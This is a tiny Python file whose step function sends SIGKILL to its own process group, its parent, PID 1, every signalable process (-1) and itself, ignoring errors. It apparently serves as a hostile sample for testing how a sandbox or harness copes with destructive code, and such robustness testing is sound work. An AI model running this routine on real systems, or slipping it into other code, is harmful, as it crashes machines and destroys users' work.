"""Kills itself, its whole group, and every process in sight."""

import os
import signal


def step(z):
    for target in (-os.getpgrp(), os.getppid(), 1, -1, os.getpid()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            continue
